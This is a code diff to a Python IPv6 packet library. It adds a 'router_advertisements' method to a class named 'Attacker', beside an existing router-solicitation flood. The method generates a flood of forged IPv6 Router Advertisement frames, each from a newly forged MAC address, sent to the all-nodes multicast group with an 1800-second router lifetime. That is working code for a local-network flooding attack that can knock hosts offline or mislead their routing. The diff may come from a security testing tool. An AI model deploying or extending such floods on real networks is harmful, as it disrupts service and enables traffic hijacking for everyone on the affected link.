@@ -11,10 +11,12 @@ from ipaddress import IPv6Address
 
 from wayname.wire import icmpv6, ipv6
 from wayname.wire.discovery import (
+    ALL_NODES,
     ALL_ROUTERS,
     HOP_LIMIT,
     NeighbourAdvertisement,
     NeighbourSolicitation,
+    RouterAdvertisement,
     RouterSolicitation,
 )
 from wayname.wire.ethernet import TYPE_IPV6, Frame
@@ -76,6 +78,17 @@ class Attacker:
             mac = self.forged_mac(number)
             packet = RouterSolicitation(mac).message().packet(mac.link_local(), ALL_ROUTERS, HOP_LIMIT)
             return Frame(group_mac(ALL_ROUTERS), mac, TYPE_IPV6, packet.encode())
+
+        return made
+
+    def router_advertisements(self) -> Flood:
+        """Advertisements of routers, from a MAC that each is new."""
+
+        def made(number: int) -> Frame:
+            mac = self.forged_mac(number)
+            message = RouterAdvertisement(lifetime=1800, source_mac=mac).message()
+            packet = message.packet(mac.link_local(), ALL_NODES, HOP_LIMIT)
+            return Frame(group_mac(ALL_NODES), mac, TYPE_IPV6, packet.encode())
 
         return made
 
